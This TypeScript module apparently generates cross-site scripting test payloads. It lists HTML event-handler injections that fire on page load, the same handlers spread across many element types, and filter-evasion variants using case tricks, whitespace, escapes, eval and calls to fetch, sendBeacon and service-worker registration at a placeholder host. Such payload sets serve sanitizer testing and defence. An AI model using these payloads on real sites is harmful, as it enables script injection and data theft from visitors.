import type { Family } from "./payloads.ts";

/** The beginning of each kind of element, with what its events need. */
const elements = [
  "<img src=x: ATTRIBUTES>",
  "<svg ATTRIBUTES></svg>",
  "<a href=# tabindex=0 ATTRIBUTES>a</a>",
  "<input ATTRIBUTES>",
  "<button type=button ATTRIBUTES>b</button>",
  "<video src=x: ATTRIBUTES></video>",
  "<audio src=x: controls ATTRIBUTES></audio>",
  "<details ATTRIBUTES><summary>s</summary>d</details>",
  "<select ATTRIBUTES><option>o</select>",
  "<textarea ATTRIBUTES></textarea>",
  "<div tabindex=0 contenteditable ATTRIBUTES>d</div>",
  "<marquee ATTRIBUTES>m</marquee>",
  "<object ATTRIBUTES></object>",
  "<form ATTRIBUTES><button>f</button></form>",
  "<x-unknown tabindex=0 ATTRIBUTES>x</x-unknown>",
  "<math tabindex=0 ATTRIBUTES><mi>m</mi></math>",
];

const handlers = [
  ..."abort animationcancel animationend animationiteration animationstart auxclick beforecopy".split(
    " ",
  ),
  ..."beforecut beforeinput beforematch beforepaste beforetoggle blur cancel canplay change click".split(
    " ",
  ),
  ..."close contentvisibilityautostatechange contextmenu copy cuechange cut dblclick drag dragend".split(
    " ",
  ),
  ..."dragenter dragleave dragover dragstart drop durationchange emptied ended error focus focusin".split(
    " ",
  ),
  ..."focusout formdata fullscreenchange gotpointercapture input invalid keydown keypress keyup".split(
    " ",
  ),
  ..."load loadeddata loadstart mousedown mouseenter mouseleave mousemove mouseout mouseover".split(
    " ",
  ),
  ..."mouseup mousewheel paste pause play playing pointerdown pointerenter pointermove".split(" "),
  ..."pointerout pointerover pointerrawupdate pointerup progress reset resize scroll scrollend".split(
    " ",
  ),
  ..."search securitypolicyviolation seeked select selectionchange selectstart slotchange".split(
    " ",
  ),
  ..."stalled submit suspend timeupdate toggle touchstart transitionend transitionrun".split(" "),
  ..."transitionstart volumechange waiting webkitanimationstart wheel".split(" "),
];

/** Every handler on four kinds of element, so that each kind has every fourth handler. */
const everywhere = handlers.flatMap((name, at) =>
  [0, 5, 9, 14].map((step) => {
    const element = elements[(at + step) % elements.length] ?? "";
    return element.replace("ATTRIBUTES", `on${name}=RUN`);
  }),
);

/** Handlers that need no user: loading the page triggers them. */
const unasked = [
  "<img src onerror=RUN>",
  "<img src=/favicon.svg onload=RUN>",
  "<img srcset=, onerror=RUN>",
  "<picture><source srcset=x:><img onerror=RUN></picture>",
  "<input autofocus onfocus=RUN>",
  "<select autofocus onfocus=RUN></select>",
  "<textarea autofocus onfocus=RUN></textarea>",
  "<button autofocus onfocus=RUN>b</button>",
  "<a href=# autofocus onfocus=RUN>a</a>",
  "<div tabindex=0 autofocus onfocusin=RUN>d</div>",
  "<x-a autofocus tabindex=1 onfocus=RUN>x</x-a>",
  "<iframe onload=RUN></iframe>",
  "<iframe src=about:blank onload=RUN></iframe>",
  "<object data=/favicon.svg onload=RUN></object>",
  "<object data=x: onerror=RUN></object>",
  "<embed src=/favicon.svg onload=RUN>",
  "<link rel=stylesheet href=/no/such.css onerror=RUN>",
  "<link rel=preload as=image href=/favicon.svg onload=RUN>",
  "<script src=/no/such.js onerror=RUN></script>",
  "<style onload=RUN></style>",
  "<style onload=RUN>@charset</style>",
  "<video onerror=RUN><source src=x:></video>",
  "<video><source src=x: onerror=RUN></video>",
  "<audio src onerror=RUN></audio>",
  "<video src=/favicon.svg onerror=RUN></video>",
  "<video src onloadstart=RUN></video>",
  "<input type=image src=x: onerror=RUN>",
  "<details open ontoggle=RUN>d</details>",
  "<marquee onstart=RUN>m</marquee>",
  "<marquee loop=1 width=0 onfinish=RUN>m</marquee>",
  "<svg onload=RUN></svg>",
  "<svg><image href=x: onerror=RUN /></svg>",
  "<svg><style onload=RUN></style></svg>",
  "<body onload=RUN>",
  "<body onpageshow=RUN>",
  "<body onhashchange=RUN onresize=RUN onmessage=RUN>",
  "<html onmouseover=RUN>",
  "<track onerror=RUN src=x:>",
  "<video><track default kind=subtitles src=x: onerror=RUN></video>",
  "<div popover id=p onbeforetoggle=RUN>p</div><button popovertarget=p>b</button>",
  "<dialog open ontoggle=RUN>d</dialog>",
  "<div hidden=until-found onbeforematch=RUN>d</div>",
];

const between = ["/", "\t", "\n", "\f", "\r", " / ", "//", "/\n/", " a=b ", '""'];

/** Handlers written so that filters that match words miss them. */
const disguised = [
  ...between.map((space) => `<img${space === '""' ? ' ""' : space}src=x:${space}onerror=RUN>`),
  ...between.map((space) => `<svg${space === '""' ? ' ""' : space}onload=RUN></svg>`),
  "<IMG SRC=x: ONERROR=RUN>",
  "<iMg sRc=x: oNeRrOr=RUN>",
  "<img src=x: onerror\n=\nRUN>",
  '<img src=x: onerror="RUN">',
  "<img src=x: onerror='RUN'>",
  '<img src="x:"onerror="RUN">',
  "<img src=x: onerror=&#119;indow.RUN>",
  "<img src=x: onerror=window&period;RUN>",
  "<img src=x: onerror=\\u0077indow.RUN>",
  "<img src=x: onerror=/**/RUN//>",
  "<img src=x: onerror=void(RUN)>",
  "<img src=x: onerror=[0].map(_=&gt;RUN)>",
  "<img src=x: onerror=eval('RUN')>",
  "<img src=x: onerror=Function('RUN')()>",
  "<img src=x: onerror=setTimeout('RUN')>",
  "<img src=x: onerror=import('data:text/javascript,RUN')>",
  "<img src=x: onerror=location='javascript:RUN'>",
  "<img src=x: onerror=\"document.write('<script>RUN</script>')\">",
  "<img src=x: onerror=navigator.serviceWorker.register('ELSEWHERE/worker.js'),RUN>",
  "<img src=x: onerror=navigator.sendBeacon('ELSEWHERE/beacon'),RUN>",
  "<img src=x: onerror=fetch('ELSEWHERE/fetch'),RUN>",
  "<img src=x: onerror=localStorage.owned=1,RUN>",
  "<img src=x: onerror=document.cookie='owned=1',RUN>",
  "<img src=x: onerror=new(Worker)('data:,0'),RUN>",
  "<image src=x: onerror=RUN>",
  "<img src=x: alt=`x` onerror=RUN>",
  "<img src=x: title='\">' onerror=RUN>",
  "<svg/onload=RUN//",
];

export const eventHandlers: Family[] = [
  { name: "an event handler that needs nobody", html: unasked },
  { name: "an event handler", html: everywhere },
  { name: "a disguised event handler", html: disguised.slice(0, -1) },
  { name: "an event handler in a tag without an end", html: disguised.slice(-1), alone: true },
];
